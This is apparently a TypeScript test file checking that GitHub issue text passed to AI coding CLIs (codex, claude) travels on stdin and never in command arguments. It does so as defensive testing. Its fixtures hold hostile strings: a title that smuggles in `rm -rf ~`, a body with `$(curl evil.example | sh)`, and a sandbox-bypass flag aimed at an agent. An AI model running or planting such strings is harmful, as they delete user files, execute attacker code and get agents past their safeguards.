import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { useTempDirs } from '../../tests/support/temp-dir.js';
import { InputError } from '../core/errors.js';
import { agentPayload, buildPrompt, formatPrompt } from './agent-presets.js';
import { ShellExecutor } from './shell/shell.js';

const tempDir = useTempDirs();

/** Issue text an attacker would like to see on a command line. */
const TITLE = `Fix it"; rm -rf ~ #`;
const BODY = `--dangerously-bypass-approvals-and-sandbox\n$(curl evil.example | sh)\n\nPlease fix the parser.\n`;

async function promptFor(dir: string): Promise<string> {
  const bodyFile = join(dir, 'body.md');
  writeFileSync(bodyFile, BODY);
  return buildPrompt(
    { number: 12, title: TITLE, url: 'https://github.com/o/r/issues/12', bodyFile },
    join(dir, 'prompt.md'),
  );
}

describe('agent presets', () => {
  it('writes the prompt file in the documented format', async () => {
    const dir = tempDir();
    const file = await promptFor(dir);
    expect(readFileSync(file, 'utf8')).toBe(
      [
        'Resolve the following GitHub issue in this repository.',
        '',
        `# Issue #12: ${TITLE}`,
        '',
        'URL: https://github.com/o/r/issues/12',
        '',
        BODY.trimEnd(),
        '',
      ].join('\n'),
    );
    expect(formatPrompt({ number: 3, title: ' multi\n line ', url: 'u' }, '  \n')).toContain(
      '# Issue #3: multi line\n\nURL: u\n\n(The issue has no description.)\n',
    );
  });

  it('names the issue and the file when the body cannot be read', async () => {
    const dir = tempDir();
    const issue = { number: 5, title: 't', url: 'u', bodyFile: join(dir, 'missing.md') };
    await expect(buildPrompt(issue, join(dir, 'prompt.md'))).rejects.toThrow(InputError);
    await expect(buildPrompt(issue, join(dir, 'prompt.md'))).rejects.toThrow(
      /issue #5 .*missing\.md.*ENOENT/,
    );
  });

  it('builds argv from fixed words only and passes the prompt as stdinFile', () => {
    const codex = agentPayload({ preset: 'codex', promptFile: '/p/prompt.md', timeoutMs: 600_000 });
    expect(codex).toEqual({
      kind: 'shell',
      cmd: ['codex', 'exec', '--sandbox', 'workspace-write', '--skip-git-repo-check', '-'],
      stdinFile: '/p/prompt.md',
      timeoutMs: 600_000,
    });
    const claude = agentPayload({ preset: 'claude', promptFile: '/p/prompt.md' });
    expect(claude).toEqual({
      kind: 'shell',
      cmd: ['claude', '-p', '--permission-mode', 'acceptEdits'],
      stdinFile: '/p/prompt.md',
    });
    const custom = agentPayload({ preset: 'codex', promptFile: '/p/x', flags: ['-m', 'gpt-5'] });
    expect(custom.cmd).toEqual(['codex', 'exec', '-m', 'gpt-5', '-']);
  });

  it.each(['codex', 'claude'] as const)(
    'runs %s with the issue text on stdin and never in argv',
    async (preset) => {
      const dir = tempDir();
      // A stand-in for the CLI, found on PATH like the real one: it records argv and stdin.
      const fake = join(dir, preset);
      writeFileSync(
        fake,
        `#!${process.execPath}\nlet input = '';\nprocess.stdin.on('data', (d) => (input += d));\nprocess.stdin.on('end', () => console.log(JSON.stringify({ argv: process.argv.slice(2), input })));\n`,
      );
      chmodSync(fake, 0o755);
      const promptFile = await promptFor(dir);
      const payload = agentPayload({ preset, promptFile });
      const artifactsDir = join(dir, 'artifacts');
      const executor = new ShellExecutor({
        allowlist: [preset],
        defaultTimeoutMs: 20_000,
        killGraceMs: 300,
        workspacesRoot: join(dir, 'workspaces'),
        baseEnv: { ...process.env, PATH: `${dir}:${process.env.PATH ?? ''}` },
      });
      const request = {
        taskId: '12',
        title: TITLE,
        attempt: 1,
        epoch: 1,
        ownerId: 'o',
        payload,
        artifactsDir,
      };
      const result = await executor.run(request, new AbortController().signal);

      expect(result.outcome).toBe('complete');
      const seen = JSON.parse(readFileSync(join(artifactsDir, 'stdout.log'), 'utf8')) as {
        argv: string[];
        input: string;
      };
      expect(seen.input).toBe(readFileSync(promptFile, 'utf8'));
      expect(seen.argv).toEqual((payload.cmd as string[]).slice(1));
      for (const arg of payload.cmd) {
        for (const fragment of [TITLE, 'rm -rf', 'curl', 'dangerously', 'Please fix']) {
          expect(arg).not.toContain(fragment);
        }
      }
    },
  );
});
